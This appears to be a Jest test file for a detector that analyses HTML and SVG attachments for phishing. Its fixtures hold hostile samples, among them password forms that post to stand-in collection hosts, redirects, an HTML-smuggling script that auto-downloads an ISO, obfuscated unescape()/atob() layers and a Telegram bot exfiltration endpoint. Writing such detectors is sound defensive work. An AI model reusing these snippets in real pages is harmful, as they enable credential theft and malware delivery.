import { analyseHtml } from '../../../functions/src/core/documents/html-attachment';

describe('analyseHtml', () => {
  it('finds a login form and where it posts', () => {
    const facts = analyseHtml('<html><body><form action="https://collect.example/p.php" method="POST"><input name="email"><input type="password" name="pw"></form></body></html>');
    expect(facts.passwordInputs).toBe(1);
    expect(facts.forms).toEqual([{ action: 'https://collect.example/p.php', method: 'post', hasPassword: true }]);
  });

  it('finds meta refresh, location and window.open redirects and frames', () => {
    const facts = analyseHtml(
      '<meta http-equiv="refresh" content="0; url=https://phish.example/a"><script>window.location.href = "https://phish.example/b"; window.open("https://phish.example/c")</script><iframe src="https://phish.example/d" width="100%"></iframe>',
    );
    expect(facts.redirects).toEqual([
      { how: 'meta_refresh', target: 'https://phish.example/a' },
      { how: 'script_location', target: 'https://phish.example/b' },
      { how: 'window_open', target: 'https://phish.example/c' },
    ]);
    expect(facts.iframes).toEqual(['https://phish.example/d']);
  });

  it('finds HTML smuggling: a payload decoded in script and handed to the browser as a download', () => {
    const facts = analyseHtml(
      '<script>var b = atob("TVqQAAMAAAAEAAAA"); var a = new Uint8Array(b.length); var blob = new Blob([a], {type: "application/octet-stream"}); var u = URL.createObjectURL(blob); var l = document.createElement("a"); l.href = u; l.download = "invoice.iso"; l.click();</script>',
    );
    expect(facts.smuggling).toEqual(['new Blob + atob + Uint8Array → URL.createObjectURL + download attribute set by script']);
  });

  it('finds executables and large payloads in data: URIs', () => {
    const exe = Buffer.concat([Buffer.from('MZ'), Buffer.alloc(0x3a), Buffer.from([0x40, 0, 0, 0]), Buffer.from('PE\0\0'), Buffer.alloc(64)]).toString('base64');
    expect(analyseHtml(`<a href="data:application/octet-stream;base64,${exe}" download="doc.exe">Download</a>`).smuggling).toEqual(
      expect.arrayContaining(['data: URI carrying a PE file', 'download link to a data:/blob: payload']),
    );
    const big = `data:application/pdf;base64,${'A'.repeat(70_000)}`;
    expect(analyseHtml(`<embed src="${big}">`).smuggling[0]).toMatch(/^large data: URI/);
    // An inline image, however large, is content.
    expect(analyseHtml(`<img src="data:image/png;base64,${'A'.repeat(70_000)}">`).smuggling).toEqual([]);
  });

  it('decodes a page hidden in document.write(unescape(...)) and analyses it like the page', () => {
    const hidden = encodeURIComponent('<form action="https://steal.example/x"><input type="password"></form>').replace(/%20/g, '%20');
    const facts = analyseHtml(`<script>document.write(unescape("${hidden}${'%20'.repeat(30)}"))</script>`);
    expect(facts.obfuscation).toContain('markup hidden in unescape()');
    expect(facts.decodedLayers).toBe(1);
    expect(facts.passwordInputs).toBe(1);
    expect(facts.forms[0]?.action).toBe('https://steal.example/x');
  });

  it('finds layers hidden in atob() and exfiltration endpoints', () => {
    const page = Buffer.from(`<script>fetch("https://api.telegram.org/bot123:ABC/sendMessage")</script><p>${'x'.repeat(80)}</p>`).toString('base64');
    const facts = analyseHtml(`<script>document.body.innerHTML = atob("${page}")</script>`);
    expect(facts.obfuscation).toContain('markup hidden in atob()');
    expect(facts.exfiltration).toEqual(['api.telegram.org/bot']);
  });

  it('counts scripts and event handlers of SVG images', () => {
    const facts = analyseHtml('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>fetch("x")</script><foreignObject><div/></foreignObject></svg>', 'svg');
    expect(facts).toMatchObject({ kind: 'svg', inlineScripts: 1, eventHandlers: 1, foreignObjects: 1 });
  });

  it('an ordinary HTML document (receipt, exported report) shows none of these', () => {
    const facts = analyseHtml(
      '<!doctype html><html><head><title>Receipt</title><style>td{padding:2px}</style></head><body><h1>Thanks</h1><table><tr><td>Total</td><td>12.00</td></tr></table><a href="https://shop.example.com/orders/1">Your order</a><img src="data:image/png;base64,iVBORw0KGgo="></body></html>',
    );
    expect(facts).toMatchObject({ passwordInputs: 0, forms: [], redirects: [], smuggling: [], obfuscation: [], exfiltration: [], inlineScripts: 0, eventHandlers: 0, iframes: [] });
  });

  it('stays bounded on hostile input: unclosed literals and many decoder calls', () => {
    const hostile = `<script>${'atob("'.repeat(5000)}${'A'.repeat(200_000)}</script>`;
    const started = performance.now();
    const facts = analyseHtml(hostile);
    expect(performance.now() - started).toBeLessThan(3000);
    expect(facts.decodedLayers).toBe(0);
  });
});
